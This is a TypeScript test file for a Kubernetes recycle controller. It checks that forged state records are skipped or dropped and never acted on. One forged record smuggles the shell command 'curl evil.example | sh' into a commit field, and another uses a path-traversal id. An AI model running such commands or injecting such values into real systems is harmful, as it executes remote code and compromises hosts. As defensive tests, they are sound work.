// The stored state is checked when it is loaded and a pending record is
// decided again when it is claimed: whoever can write the state object can
// write a `pending` record. Here the raw object is written behind the
// store's back (as kubectl would on the cluster: test/integration/forged-state.test.ts)
// and the leader's recording executor must see no run.

import { Writable } from 'node:stream'
import t, { type Test } from 'tap'
import { manualClock } from '../../src/clock.ts'
import { parseConfig } from '../../src/config/load.ts'
import { createLogger } from '../../src/logger.ts'
import { newPause, setPause } from '../../src/recycle/control.ts'
import { newRecycleId } from '../../src/recycle/requests.ts'
import { createRunner } from '../../src/recycle/runner.ts'
import { memoryObjectStore } from '../../src/state/memory.ts'
import { emptySiteState, type RecycleRecord, type SiteState } from '../../src/state/schema.ts'
import { createStore, objectName } from '../../src/state/store.ts'
import { createMetrics } from '../../src/status/metrics.ts'
import { fakeExecutor } from '../fixtures/fake-executor.ts'

const config = parseConfig(`
sites:
  - name: shop
    target: { kind: Deployment, namespace: shop, name: web }
  - name: pool
    target: { namespace: pool, selector: { app: pool } }
    recycle: { strategy: evict }
`)

async function leader(t: Test) {
  const clock = manualClock(Date.now())
  const objects = memoryObjectStore()
  const lines: string[] = []
  const logger = createLogger({
    level: 'info',
    destination: new Writable({
      write(c, _e, cb) {
        lines.push(String(c))
        cb()
      },
    }) as never,
  })
  const store = createStore({ objects, sites: config.sites, clock, logger, durable: true })
  const executor = fakeExecutor({ auto: { state: 'succeeded', message: 'acted' } })
  const runner = createRunner({
    config,
    store,
    executor,
    clock,
    logger,
    metrics: createMetrics(),
    identity: 'leader',
    isLeader: () => true,
    sweepEveryMs: 10,
  })
  store.start()
  await store.loaded()
  runner.start()
  t.teardown(async () => {
    await runner.close()
    await store.close()
  })
  /** Writes the site's whole state object, as anyone with write access to it could. */
  const forge = async (site: string, s: SiteState) => {
    const cur = await objects.read(objectName(site))
    await objects.write(objectName(site), JSON.stringify(s), cur?.version)
  }
  return { clock, store, executor, runner, lines, forge }
}

const pendingRecord = (site: string, now: number, over: Partial<RecycleRecord> = {}): RecycleRecord => ({
  id: newRecycleId(now),
  site,
  target: 'x',
  strategy: 'rollout',
  trigger: { source: 'jenkins', reason: 'FAILURE (forged)' },
  dryRun: false,
  state: 'pending',
  steps: [],
  createdAt: new Date(now).toISOString(),
  ...over,
})
const settle = async () => {
  for (let i = 0; i < 10; i++) await new Promise((r) => setTimeout(r, 15))
}

t.test(
  'issue 22 point 5: a forged pending record while the site is paused is skipped (paused) when claimed, never run',
  async (t) => {
    const { clock, store, executor, runner, forge } = await leader(t)
    const r = pendingRecord('shop', clock.now())
    const base: SiteState = { ...emptySiteState('shop'), health: 'failing', starts: [r.createdAt], recycles: [r] }
    await forge('shop', setPause(base, 'site', newPause({ by: 'alice', reason: 'freeze' }, clock.now())))
    await settle()
    await runner.idle()
    t.equal(executor.runs.length, 0, 'nothing acted on the workload')
    t.match(
      store.get('shop').recycles.find((x) => x.id === r.id),
      { state: 'skipped', reasonKind: 'paused' },
    )
    t.same(store.get('shop').starts, [], 'its start is given back')
  },
)

t.test(
  'issue 22 point 5: records with a bogus commit, an unknown strategy, another site, or a rollout of a selector are dropped on load and said',
  async (t) => {
    const { clock, store, executor, runner, lines, forge } = await leader(t)
    const now = clock.now()
    const bad = [
      pendingRecord('shop', now, { commit: 'main; curl evil.example | sh' }),
      { ...pendingRecord('shop', now), strategy: 'nuke' } as unknown as RecycleRecord,
      pendingRecord('blog', now),
      pendingRecord('shop', now, { id: '../../etc' }),
    ]
    await forge('shop', {
      ...emptySiteState('shop'),
      health: 'failing',
      starts: [new Date(now).toISOString()],
      recycles: bad,
    })
    const selector = pendingRecord('pool', now)
    await forge('pool', {
      ...emptySiteState('pool'),
      health: 'failing',
      starts: [selector.createdAt],
      recycles: [selector],
    })
    await settle()
    await runner.idle()
    t.equal(executor.runs.length, 0, 'nothing acted on a workload')
    t.same(store.get('shop').recycles, [], 'every bad record of shop dropped')
    t.same(store.get('pool').recycles, [], 'a rollout of a selector dropped')
    t.equal(store.get('shop').health, 'failing', 'the rest of the state is kept')
    t.equal(lines.filter((l) => l.includes('dropped, never run')).length >= 5, true, 'each one said in the log')
  },
)
